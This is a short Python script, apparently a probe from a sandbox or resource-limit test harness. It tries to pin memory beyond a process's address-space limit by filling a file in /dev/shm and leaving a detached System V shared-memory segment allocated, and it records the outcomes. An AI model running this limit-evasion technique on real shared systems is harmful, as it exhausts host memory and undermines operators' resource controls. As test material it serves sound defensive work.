"""Attack: pin memory outside the process's address-space limit: a file in /dev/shm, and
a System V segment detached at once (it lives on without being mapped)."""

import ctypes
import os

mib = int(open("size_mib.txt").read())
FINDINGS = {}
written = 0
try:
    with open("/dev/shm/pinned", "wb", buffering=0) as handle:
        for _ in range(mib):
            written += handle.write(b"\1" * (1 << 20))
except OSError as exc:
    FINDINGS["shm_error"] = exc.strerror
FINDINGS["shm_written_mib"] = written >> 20
libc = ctypes.CDLL(None, use_errno=True)
libc.shmget.restype = ctypes.c_int
libc.shmat.restype = ctypes.c_void_p
segment = libc.shmget(0, ctypes.c_size_t(mib << 20), 0o1000 | 0o600)  # IPC_PRIVATE, IPC_CREAT
FINDINGS["sysv_created"] = segment >= 0
if segment >= 0:
    address = libc.shmat(segment, None, 0)
    if address not in (None, ctypes.c_void_p(-1).value):
        ctypes.memset(address, 1, mib << 20)  # touch every page, then let go of the mapping
        libc.shmdt(ctypes.c_void_p(address))
        FINDINGS["sysv_touched"] = True
FINDINGS["done"] = True
